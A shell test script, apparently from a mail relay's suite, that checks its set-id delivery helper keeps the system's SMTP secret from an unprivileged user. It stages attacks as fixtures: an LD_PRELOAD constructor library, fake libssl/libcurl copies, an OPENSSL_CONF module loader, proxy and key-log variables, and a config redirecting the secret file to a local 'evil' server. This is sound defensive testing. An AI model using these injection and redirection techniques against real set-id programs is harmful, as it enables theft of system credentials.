#!/bin/bash
# tests/t/0521-setid-steal.sh: setid.c, deliver_main.c, secret.c, relay.c.
# Issue 8's list of ways an unprivileged user might try to get the system's
# secret out of the set-id helper: SSLKEYLOGFILE, proxies, CURL_CA_BUNDLE,
# OPENSSL_CONF, LD_PRELOAD, LD_LIBRARY_PATH, MAILHOP_CONFIG, -C, a user
# configuration that changes host, port, tls or ca_file of the system's
# upstream, and -v.  (/proc, ptrace and core dumps: 0520.)  In every case
# the secret reaches no file the user can read, no output, and no server
# but the configured one; a refused upstream leaves the mail queued with a
# last reply that names the key.
. "$TESTLIB/tap.sh"
. "$TESTLIB/setid.sh"
setid_or_skip 43

S=s3cr3t-$RANDOM$RANDOM-$$
start_smtpd --user "alice:$S" || bail "no smtpd"
GOOD_LOG=$SMTPD_LOG
GOOD_PORT=$SMTPD_PORT
setid_setup
setid_user u
H=$SYS/home/$u
ln -s mailhop "$SBIN/sendmail"
sys_secret "$S"
sys_conf
# The attacker's own server: plain text, takes any AUTH.
start_smtpd --tls none --auth plain,login --user "alice:x" || bail "no evil smtpd"
EVIL_LOG=$SMTPD_LOG
EVIL_PORT=$SMTPD_PORT
make_other_ca
# sys_conf below points at the configured (good) server.
good_conf() { SMTPD_PORT=$GOOD_PORT SMTPD_TLS=starttls sys_conf "$@"; }

good() { SMTPD_LOG=$GOOD_LOG transcript "$@"; }
evil_conns() { SMTPD_LOG=$EVIL_LOG transcript connections; }
queue() {
	printf 'Subject: %s\n\nx\n' "$1" |
	    as_user "$u" "$SBIN/mailhop" send -f "$u@example.org" bob@example.net
}
userfile() {	# TEXT: the user's own configuration file
	mkdir -p "$H/.config/mailhop"
	printf '%s\n' "$1" > "$H/.config/mailhop/mailhop.conf"
	chmod 600 "$H/.config/mailhop/mailhop.conf"
	chown -R "$u:" "$H/.config"
}
last_reply() {	# [FIELD]: of the last recipient of the last entry
	as_user "$u" "$SBIN/mailhop" queue --json | "$PYTHON" -c '
import json, sys
for l in sys.stdin:
    for r in json.loads(l)["recipients"]:
        print(r[sys.argv[1]])' "${1:-last_reply}" | tail -n 1
}

# A library that leaves a mark wherever it is loaded.
. "${MAILHOP_BIN%/src/mailhop}/tests/relink.env"
# (The front end, not set-id, is the user's own process: it may load it.)
cat > "$TESTDIR/evil.c" <<EOF
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>
__attribute__((constructor)) static void
pwn(void)
{
	char exe[4096], path[4200], *b;
	ssize_t n = readlink("/proc/self/exe", exe, sizeof(exe) - 1);
	int fd;

	exe[n > 0 ? n : 0] = '\\0';
	b = strrchr(exe, '/');
	snprintf(path, sizeof(path), "$H/pwned-%s", b != NULL ? b + 1 : exe);
	if ((fd = open(path, O_WRONLY | O_CREAT, 0644)) >= 0)
		close(fd);
}
EOF
$RELINK_CC -shared -fPIC -o "$TESTDIR/evil.so" "$TESTDIR/evil.c" || bail "cannot build evil.so"
mkdir -p "$H/lib"
install -m 755 "$TESTDIR/evil.so" "$H/evil.so"
for lib in libcurl.so.4 libssl.so.3 libcrypto.so.3 libinih.so.1; do
	install -m 755 "$TESTDIR/evil.so" "$H/lib/$lib"
done
printf 'openssl_conf = init\n[init]\nproviders = prov\n[prov]\nevil = evil_sect\n[evil_sect]\nmodule = %s/evil.so\nactivate = 1\n' \
    "$H" > "$H/evil.cnf"
chown -R "$u:" "$H"

# --- the environment ---------------------------------------------------
n=0
for attack in "SSLKEYLOGFILE=$H/keys" \
    "http_proxy=http://127.0.0.1:$EVIL_PORT https_proxy=http://127.0.0.1:$EVIL_PORT all_proxy=http://127.0.0.1:$EVIL_PORT HTTPS_PROXY=http://127.0.0.1:$EVIL_PORT ALL_PROXY=socks5://127.0.0.1:$EVIL_PORT" \
    "CURL_CA_BUNDLE=$TESTDIR/otherca/ca.pem SSL_CERT_FILE=$TESTDIR/otherca/ca.pem" \
    "OPENSSL_CONF=$H/evil.cnf" \
    "LD_PRELOAD=$H/evil.so" \
    "LD_LIBRARY_PATH=$H/lib"; do
	n=$((n + 1))
	queue "env $n"
	# shellcheck disable=SC2086
	out=$(as_user "$u" $attack "$SBIN/mailhop" flush 2>&1)
	is "$?:$(good count)" "0:$n" "${attack%%=*}: delivered through the configured server only"
	unlike "$out" "$S" "${attack%%=*}: the secret is not in the output"
done
ok "$([ ! -e "$H/keys" ]; echo $?)" "SSLKEYLOGFILE: no key log was written"
ok "$([ ! -e "$H/pwned-mailhop-deliver" ]; echo $?)" \
    "LD_PRELOAD, LD_LIBRARY_PATH, OPENSSL_CONF: nothing of the user's was loaded into the helper"
is "$(evil_conns)" 0 "the proxies were not used: the attacker's server saw nothing"

# --- configuration the user chooses -----------------------------------
cat > "$H/evil.conf" <<EOF
[upstream]
host = 127.0.0.1
port = $EVIL_PORT
tls = none
allow_plaintext_auth = yes
user = alice
password_file = $SYS/etc/mailhop/secret
[queue]
dir = $H/spool
deliver = queue
EOF
chown "$u:" "$H/evil.conf"; chmod 600 "$H/evil.conf"
printf 'Subject: c\n\nx\n' | as_user "$u" MAILHOP_CONFIG="$H/evil.conf" "$SBIN/mailhop" send bob@example.net
out=$(as_user "$u" MAILHOP_CONFIG="$H/evil.conf" "$SBIN/mailhop" flush 2>&1)
is "$(evil_conns)" 0 "MAILHOP_CONFIG naming the attacker's server and the system's secret file: no connection"
like "$out" "password_file $SYS/etc/mailhop/secret: Permission denied" "the secret file is read only without the group"
# (sendmail -q: the entry's first refusal counted as an attempt)
out=$(as_user "$u" "$SBIN/sendmail" -C "$H/evil.conf" -q 2>&1)
is "$(evil_conns)" 0 "-C with the same file: no connection"
like "$out" "password_file $SYS/etc/mailhop/secret: Permission denied" "the same refusal"

before=$(good connections)
for o in "host = localhost" "port = $EVIL_PORT" "tls = none" "ca_file = $TESTDIR/otherca/ca.pem"; do
	userfile "[upstream]
$o"
	queue "override ${o%% *}"
	out=$(as_user "$u" "$SBIN/mailhop" flush 2>&1)
	is "$?:$(good connections):$(evil_conns)" "75:$before:0" \
	    "a user file that sets ${o%% *} of the system's upstream: nothing connects anywhere"
	like "$(last_reply)" "^\[upstream\] is the system's and holds its secret, but $H/.config/mailhop/mailhop.conf:2 sets its key \"${o%% *}\"" \
	    "the entry stays queued; its last reply names the key and the file"
	is "$(last_reply attempts)" 1 "${o%% *}: the refusal counts as an attempt (backoff and max_age apply)"
done
rm -rf "$H/.config"
like "$(as_user "$u" "$SBIN/mailhop" queue)" "sets its key \"ca_file\"" "mailq shows that reason"
# The environment layer (SPEC 10) is treated the same way.
queue "env override"
out=$(as_user "$u" MAILHOP_UPSTREAM_PORT="$EVIL_PORT" "$SBIN/sendmail" -q 2>&1)
is "$(good connections):$(evil_conns)" "$before:0" "MAILHOP_UPSTREAM_PORT: nothing connects anywhere"
like "$(last_reply)" "^\[upstream\] is the system's and holds its secret, but MAILHOP_UPSTREAM_PORT sets its key \"port\"" \
    "the last reply names the variable"

# flush --watch re-reads the configuration on SIGHUP (SPEC 10), but not
# set-id: the secret was held against the configuration read at start, so
# a change made afterwards never reaches it.
# (A first message, delivered by the watcher, shows it is up and has its
# signal handlers: a SIGHUP before that would end it.)
queue "before HUP"
sent=$(good count)
(as_user "$u" "$SBIN/mailhop" flush --watch 2>"$TESTDIR/watch.err") 2>/dev/null &
wpid=$!
_watching() { [ "$(good count)" -gt "$sent" ]; }
wait_for _watching || diag "the watcher did not deliver: $(cat "$TESTDIR/watch.err")"
watcher=$(proc_of "$u" /mailhop-deliver)
userfile "[upstream]
port = $EVIL_PORT"
as_user "$u" kill -HUP "$watcher"
_hup() { grep -q 'SIGHUP' "$TESTDIR/watch.err"; }
wait_for _hup
like "$(cat "$TESTDIR/watch.err")" "SIGHUP: configuration not re-read, the old one stays: the helper runs set-id" \
    "the set-id watcher keeps the configuration it started with"
sent=$(good count)
queue "after HUP"
wait_for _watching
ok $? "a message queued then goes through the configured server"
kill -TERM "$watcher" 2>/dev/null; wait "$wpid"
is "$(evil_conns)" 0 "and nothing reached the attacker's server"
rm -rf "$H/.config"

# A password_command of the system file is not even run when the user
# changes its upstream (the secret is not read, SPEC 8).
printf '#!/bin/sh\ndate >> %s/ran\ncat %s\n' "$TESTDIR" "$SYS/etc/mailhop/secret" > "$SYS/etc/pwcmd"
: > "$TESTDIR/ran"
chmod 755 "$SYS/etc/pwcmd"
chmod 666 "$TESTDIR/ran"
good_conf
sed -i "s|^password_file = .*|password_command = $SYS/etc/pwcmd|" "$SYS/etc/mailhop.conf"
userfile "[upstream]
timeout = 5s"
as_user "$u" "$SBIN/mailhop" flush >/dev/null 2>&1
ok "$([ ! -s "$TESTDIR/ran" ]; echo $?)" "a changed system upstream: its password_command is not run"
rm -rf "$H/.config"
as_user "$u" "$SBIN/sendmail" -q >/dev/null 2>&1
ok "$([ -s "$TESTDIR/ran" ]; echo $?)" "unchanged again: it is run (control)"

# --- -v ----------------------------------------------------------------
good_conf
queue verbose
out=$(as_user "$u" "$SBIN/mailhop" -v flush 2>&1)
like "$out" "AUTH" "-v shows the dialogue"
unlike "$out" "$S|$(printf '\0alice\0%s' "$S" | base64 -w0)|$(printf '%s' "$S" | base64 -w0)" \
    "-v: neither the secret nor its base64 forms"

# --- anything the user can read -----------------------------------------
leak=$(as_user "$u" grep -rlF -- "$S" "$H" "$TESTDIR" 2>/dev/null)
is "$leak" "" "no file the user can read holds the secret"
is "$(evil_conns)" 0 "the attacker's server was never contacted"
